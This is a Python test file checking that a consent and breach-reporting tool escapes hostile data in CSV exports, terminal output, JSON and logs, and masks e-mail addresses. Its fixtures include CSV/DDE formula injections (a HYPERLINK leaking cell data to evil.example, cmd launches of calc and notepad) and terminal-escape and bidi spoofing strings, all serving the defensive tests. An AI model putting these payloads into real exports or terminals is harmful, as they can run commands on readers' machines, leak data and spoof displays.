"""Every output boundary escapes: CSV cells that a spreadsheet would run, terminal escapes
in what the `charter` commands print, e-mail addresses in error texts and logs."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import sys
import unicodedata
from pathlib import Path

from aiosmtpd.controller import Controller
from hypothesis import given
from hypothesis import strategies as st

from server.terminal import FORMULA_STARTS, cell, json_text, printable
from tenants.outbound.models import OutboxMessage, OutboxStatus
from tests import backends as tb
from tests.factories import create_tenant
from tests.outbound import free_port
from tests.servers import stop
from tests.test_breaches import report
from tests.test_consent import grant, publish_policy
from tests.test_outbound import OUTBOX
from tests.test_subject_requests import SUBMIT

CHARTER = str(Path(sys.executable).with_name("charter"))
BATCH = (
    "mutation($i: [ConsentInput!]!) { recordConsents(inputs: $i) { recorded userErrors { code } } }"
)
# What may steer a terminal: C0 and C1 controls, DEL, bidirectional controls, separators.
STEERING = {chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0), 0x2028, 0x2029)} | {
    chr(c) for c in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
}
HOSTILE_TITLE = "\x1b[2J\x1b[HAll clear \u202eevil\u202c\x9b31m\x07"


def steers(text: str) -> bool:
    return any(char in STEERING for char in text)


# --- the rules themselves, for any text -------------------------------------------------


@given(st.text())
def test_a_cell_never_starts_a_formula_nor_steers_a_terminal(text):
    out = cell(text)
    assert out[:1] not in FORMULA_STARTS and out.lstrip(" ")[:1] not in FORMULA_STARTS
    assert not steers(out)
    buffer = io.StringIO()
    csv.writer(buffer).writerow([out])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [out]  # one cell, intact


@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Zl", "Zp"))))
def test_ordinary_text_is_left_as_it_is(text):
    if text[:1] not in FORMULA_STARTS and text.lstrip(" ")[:1] not in FORMULA_STARTS:
        assert cell(text) == text
    else:
        assert cell(text) == "'" + text


@given(st.text())
def test_json_output_is_lossless_and_inert(text):
    document = {"title": text, "items": [text]}
    out = json_text(document, indent=2)
    assert not (set(out) & (STEERING - {"\n"}))
    assert json.loads(out) == document


@given(st.text())
def test_printable_escapes_every_steering_character(text):
    assert not steers(printable(text))
    assert not (set(printable(text, multiline=True)) & (STEERING - {"\n", "\t"}))


def test_numbers_stay_numbers_and_known_attacks_are_quoted():
    assert cell(-5) == "-5" and cell(17) == "17" and cell(None) == ""
    assert (
        cell('=HYPERLINK("http://evil.example","x")') == '\'=HYPERLINK("http://evil.example","x")'
    )
    assert cell("@SUM(1+1)") == "'@SUM(1+1)"
    assert cell("\tcmd") == "'\\x09cmd"
    assert cell("  =1+1") == "'  =1+1"
    assert cell("\uff1dcmd") == "'\uff1dcmd"
    assert unicodedata.category(printable("\x1b")[0]) == "Po"  # a backslash: visible


# --- the commands that print stored text --------------------------------------------------


async def charter(settings, *args: str) -> tuple[int, str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CHARTER_")}
    env.update(tb.environment(tb.BACKEND, str(settings.data_dir), settings.database_url))
    process = await asyncio.create_subprocess_exec(
        CHARTER, *args, env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
    )
    out, err = await asyncio.wait_for(process.communicate(), 120)
    return process.returncode, out.decode(), err.decode()


async def test_consent_export_neutralises_formulas_and_terminal_escapes(api, settings, client):
    _, owner = await create_tenant(api, slug="acme")
    await publish_policy(api, owner)
    hostile = {
        '=HYPERLINK("http://evil.example/?"&A1,"Click")': "=1+2",
        "@SUM(1+1)": "+cmd|' /C calc'!A0",
        "-2+3": "@x",
        "\x1b[2Jspoof": "ok",
    }
    inputs = [
        {
            "subjectId": subject,
            "method": "IMPORT",
            "decisions": grant("analytics.reporting"),
            "clientEventId": event_id,
        }
        for subject, event_id in hostile.items()
    ]
    answer = await client.post(
        "/graphql",
        json={"query": BATCH, "variables": {"i": inputs}},
        headers={"Authorization": f"Bearer {owner}", "User-Agent": "=cmd|' /C notepad'!A0"},
    )
    assert answer.json()["data"]["recordConsents"]["recorded"] == 4

    code, out, err = await charter(
        settings, "consent", "export", "--site", "acme", "--format", "csv", "--quiet"
    )
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["subject_id"] for row in rows] == [cell(subject) for subject in hostile]
    for row in rows:
        for value in row.values():
            assert value[:1] not in FORMULA_STARTS and not steers(value), row
    assert (
        rows[0]["subject_id"].startswith("'=HYPERLINK(") and rows[0]["client_event_id"] == "'=1+2"
    )
    assert rows[0]["user_agent"] == "'=cmd|' /C notepad'!A0"
    assert rows[0]["sequence"] == "1"

    code, out, err = await charter(settings, "consent", "export", "--site", "acme", "--quiet")
    assert code == 0, err
    assert "\x1b" not in out  # inert on a terminal ...
    subjects = [json.loads(line)["subject_id"] for line in out.splitlines()]
    assert subjects == list(hostile)  # ... and the data exactly as recorded


async def test_breach_commands_print_a_hostile_title_inert(api, settings):
    _, owner = await create_tenant(api, slug="acme", jurisdictions=["EU"])
    reported = await report(api, owner, title=HOSTILE_TITLE, risk="HIGH")
    assert reported["userErrors"] == []
    breach = reported["breach"]

    code, out, err = await charter(settings, "breaches", "clocks")
    assert code == 0, err
    assert not steers(out.replace("\n", "").replace("\t", ""))
    assert "\\x1b[2J\\x1b[HAll clear \\u202eevil\\u202c\\x9b31m\\x07" in out
    assert all(line.count("\t") == 5 for line in out.splitlines())  # no cell spills over

    code, out, err = await charter(settings, "breach", "report", breach["id"])
    assert code == 0, err
    assert not (set(out) & (STEERING - {"\n"}))
    assert "# Personal data breach notification: \\x1b[2J" in out

    code, out, err = await charter(settings, "breach", "report", breach["id"], "--format", "json")
    assert code == 0, err
    assert not (set(out) & (STEERING - {"\n"}))
    assert json.loads(out)["breach"]["title"] == HOSTILE_TITLE


# --- e-mail addresses in error texts and logs ---------------------------------------------


class Refusing:
    """An SMTP server that refuses every recipient, naming it, as real ones do."""

    async def handle_RCPT(self, server, session, envelope, address, rcpt_options):
        return f"550 5.1.1 <{address}>: Recipient address rejected: User unknown"


async def test_a_refused_recipient_is_masked_in_last_error_and_the_worker_log(api, settings):
    _, owner = await create_tenant(api, slug="acme")
    submitted = await api(
        SUBMIT,
        {"input": {"type": "ACCESS", "email": "aziza.karimova@example.uz", "subjectId": "v"}},
        token=owner,
    )
    assert submitted["data"]["submitSubjectRequest"]["userErrors"] == []
    controller = Controller(Refusing(), hostname="127.0.0.1", port=free_port())
    controller.start()
    env = {k: v for k, v in os.environ.items() if not k.startswith("CHARTER_")}
    env.update(tb.environment(tb.BACKEND, str(settings.data_dir), settings.database_url))
    env.update(
        CHARTER_SMTP_HOST="127.0.0.1",
        CHARTER_SMTP_PORT=str(controller.port),
        CHARTER_SMTP_TLS="off",
        CHARTER_LOG_LEVEL="DEBUG",
    )
    worker = await asyncio.create_subprocess_exec(
        CHARTER, "worker", env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
    )
    try:
        for _ in range(300):
            message = await OutboxMessage.filter(channel="email").first()
            if message and message.status in (OutboxStatus.FAILED, OutboxStatus.DEAD):
                break
            await asyncio.sleep(0.1)
        else:
            raise AssertionError("the worker never tried the message")
    finally:
        worker.terminate()
        try:
            log = (await asyncio.wait_for(worker.communicate(), 30))[0].decode()
        finally:
            await stop(worker)  # killed if it ignored SIGTERM: never left taking jobs
            controller.stop()

    edges = (await api(OUTBOX, {"status": None}, token=owner))["data"]["outboxMessages"]["edges"]
    [shown] = [edge["node"] for edge in edges if edge["node"]["channel"] == "email"]
    assert "Recipient address rejected" in shown["lastError"]
    assert "a***@example.uz" in shown["lastError"]
    assert "aziza" not in shown["lastError"]
    assert "delivery of" in log and "a***@example.uz" in log, log[-2000:]
    assert "aziza.karimova" not in log


def test_log_records_are_masked_and_escaped_whatever_logs_them():
    import logging

    from server.logs import FORMAT, Redacting

    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter(FORMAT))
    handler.addFilter(Redacting())
    logger = logging.getLogger("test.redacting")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        try:
            raise ValueError("550 <aziza.karimova@example.uz> refused")
        except ValueError as error:
            logger.error(
                "sending to %s failed\nFORGED LINE %s", "bek@example.kz", error, exc_info=True
            )
    finally:
        logger.removeHandler(handler)
    out = stream.getvalue()
    assert "aziza.karimova" not in out and "bek@" not in out
    assert "a***@example.uz" in out and "b***@example.kz" in out
    assert "\nFORGED LINE" not in out  # a message cannot start a line of its own
    assert "Traceback" in out  # the traceback keeps its lines
